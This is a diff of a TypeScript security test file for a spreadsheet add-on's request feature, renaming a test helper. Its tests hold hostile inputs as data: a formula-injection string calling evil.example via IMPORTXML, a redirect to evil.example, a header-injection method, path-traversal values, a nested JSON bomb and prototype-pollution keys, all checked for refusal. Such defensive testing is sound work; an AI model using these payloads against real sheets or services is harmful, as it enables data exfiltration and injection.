@@ -3,9 +3,8 @@ import { describe, expect, it } from 'vitest';
 import { form, page } from '../support/page-commands';
 import { openSidebar } from '../support/page';
 import { messages } from '../support/scenario';
-import { hostileWorlds, type HostileWorld, json, KEY } from './support/hostile-world';
+import { openHostileWorld, type HostileWorld, json, KEY } from './support/hostile-world';
 
-const open = hostileWorlds();
 const JOURNAL = '_finance_sheets_journal';
 const NOTHING_ODD = expect.not.stringMatching(/unexpected/i);
 
@@ -64,7 +63,7 @@ const PATHS = [
 
 describe('a path', () => {
   it('that could lead elsewhere is refused in words, and no request leaves', async () => {
-    const world = await open();
+    const world = await openHostileWorld();
     await world.service.requests();
     for (const path of PATHS) {
       const result = page(world).request(wild(path));
@@ -82,7 +81,7 @@ describe('a path', () => {
   });
 
   it('is refused as well when it comes from a cell, or from its user', async () => {
-    const world = await open();
+    const world = await openHostileWorld();
     for (const path of PATHS.filter(text => !/[\s\0\u2028]/.test(text) && text !== '')) {
       world.book.as(world.lee).format('Sheet1', 'F20', '@');
       world.book.as(world.lee).type('Sheet1', 'F20', path);
@@ -99,7 +98,7 @@ describe('a path', () => {
   });
 
   it('that is good goes below the root of the connected address, whatever its query holds', async () => {
-    const world = await open([json('tags', { data: [] })]);
+    const world = await openHostileWorld([json('tags', { data: [] })]);
     await world.service.requests();
     for (const value of [
       '../../x',
@@ -121,7 +120,7 @@ describe('a path', () => {
   });
 
   it('takes no other method, and a GET no body', async () => {
-    const world = await open();
+    const world = await openHostileWorld();
     for (const method of ['get\nX: y', 'HEAD', 'TRACE', 'CONNECT', '']) {
       const result = page(world).request(wild('tags', { method }));
       expect(result.said, method).toContain('It takes: GET, POST, PUT, PATCH, DELETE.');
@@ -134,7 +133,7 @@ describe('a path', () => {
 describe('the key', () => {
   it('is nowhere but in the header: no cell, property, dialog or journal holds it after requests of all kinds', async () => {
     const echo = { message: `bad key ${KEY}`, id: 'r-1' };
-    const world = await open([
+    const world = await openHostileWorld([
       json('echo', echo, { status: 400 }),
       json('fails', echo, { status: 502 }),
       json('takes', { data: { id: 'r-2' } }),
@@ -150,7 +149,7 @@ describe('the key', () => {
   });
 
   it('does not follow a redirect of a request, and the outcome counts as unknown', async () => {
-    const world = await open([
+    const world = await openHostileWorld([
       { path: 'moves', status: 307, headers: { location: 'http://evil.example/' }, text: '' },
     ]);
     const result = page(world).request(form('POST moves {"a": 1}'));
@@ -162,7 +161,7 @@ describe('the key', () => {
 describe('an answer', () => {
   it('never becomes a formula, whatever its names and values', async () => {
     const bad = '=IMPORTXML("http://evil.example","//a")';
-    const world = await open([
+    const world = await openHostileWorld([
       json('list', {
         data: [{ id: '=1+1', name: bad, '=x': bad, constructor: bad, __proto__: bad, list: [bad] }],
       }),
@@ -177,7 +176,7 @@ describe('an answer', () => {
 
   it('that nests for ever, or pages for ever, ends', async () => {
     const deep = `${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`;
-    const world = await open([
+    const world = await openHostileWorld([
       { path: 'deep', text: deep },
       json('pages', { data: [{ a: 1 }], meta: { hasNext: true, nextCursor: 'x' } }),
     ]);
@@ -193,7 +192,7 @@ describe('an answer', () => {
 describe('the hidden outbox of requests, which every editor can change', () => {
   /** Two rows are confirmed; the first is refused for want of permission, so both wait for Continue. */
   async function waiting(): Promise<HostileWorld> {
-    const world = await open([json('send', { message: 'no' }, { status: 403 })]);
+    const world = await openHostileWorld([json('send', { message: 'no' }, { status: 403 })]);
     page(world).saveRequest(form('POST send {"name": "{{Title}}"}', 'Mine'));
     const hands = world.book.as(world.kim);
     hands.insertSheet('Data');
@@ -305,7 +304,7 @@ describe('the hidden outbox of requests, which every editor can change', () => {
     ['time', { lastSentAt: 1 }],
     ['end', { state: 'closed', outcome: 'unlisted' }],
   ])('cannot end the wait for what is in doubt by another %s: the properties know', async (_, forged) => {
-    const world = await open([json('send', { message: 'down' }, { status: 500 })]);
+    const world = await openHostileWorld([json('send', { message: 'down' }, { status: 500 })]);
     page(world).request(form('POST send {"a": 1}'));
     forge(world, entry => ({ ...entry, ...forged }));
     const result = page(world).request(form('POST send {"a": 1}'), { word: 'again' });
@@ -314,7 +313,7 @@ describe('the hidden outbox of requests, which every editor can change', () => {
   });
 
   it('cannot make what was sent look unsent: the properties know', async () => {
-    const world = await open([json('send', { data: { id: 'x' } })]);
+    const world = await openHostileWorld([json('send', { data: { id: 'x' } })]);
     page(world).request(form('POST send {"a": 1}'));
     forge(world, entry => ({ ...entry, outcome: 'rejected' }));
     const result = page(world).request(form('POST send {"a": 1}'));
